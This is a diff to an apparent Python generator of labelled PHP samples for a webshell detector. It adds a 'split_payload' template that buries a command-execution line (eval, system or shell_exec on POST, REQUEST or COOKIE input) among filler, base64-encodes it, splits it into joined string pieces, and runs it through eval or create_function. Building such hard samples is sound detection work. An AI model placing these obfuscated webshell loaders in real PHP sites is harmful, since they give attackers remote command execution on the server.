@@ -990,6 +990,31 @@ def t_decoded_drop(g):
     return php_file(g, body)
 
 
+def t_split_payload(g):
+    """A long payload (a whole shell) encoded and split into hundreds of
+    literal pieces joined with `.`, then decoded and evaluated (or given to
+    create_function): the pieces must be joined whole to be judged."""
+    r = g.rng
+    lines = []
+    for j in range(r.randint(1500, 3000)):
+        lines.append("$%s%d = %s;" % (g.ident()[:5], j, php_sq(g.ident() * r.randint(1, 4))))
+    core = r.choice(["eval($_POST[%s]);", "system($_REQUEST[%s]);", "echo shell_exec($_COOKIE[%s]);"]) % php_sq(g.key())
+    lines.insert(r.randrange(len(lines)), core)
+    code = "\n".join(lines)
+    enc = b64(code.encode())
+    step = r.choice([60, 64, 68, 76])
+    pieces = [enc[j:j + step] for j in range(0, len(enc), step)]
+    v = g.var()
+    g.transforms.add("pieces:%d" % (len(pieces) // 100 * 100))
+    body = "%s =\n    %s;\n" % (v, " .\n    ".join(php_sq(x) for x in pieces))
+    if r.random() < 0.5:
+        body += "%s(%s(%s));" % (g.fn("eval"), g.fn("base64_decode"), v)
+    else:
+        f = g.var()
+        body += "%s = %s('', %s(%s));\n%s();" % (f, g.fn("create_function"), g.fn("base64_decode"), v, f)
+    return php_file(g, body)
+
+
 # ---------------------------------------------------------------------------
 # benign templates: look like the malicious ones to a byte pattern
 
@@ -1225,6 +1250,7 @@ TEMPLATES = [
     ("unknown_key", t_unknown_key, "malicious", "php", "high"),
     ("script_drop", t_script_drop, "malicious", "php", "high"),
     ("decoded_drop", t_decoded_drop, "malicious", "php", "any"),
+    ("split_payload", t_split_payload, "malicious", "php", "high"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
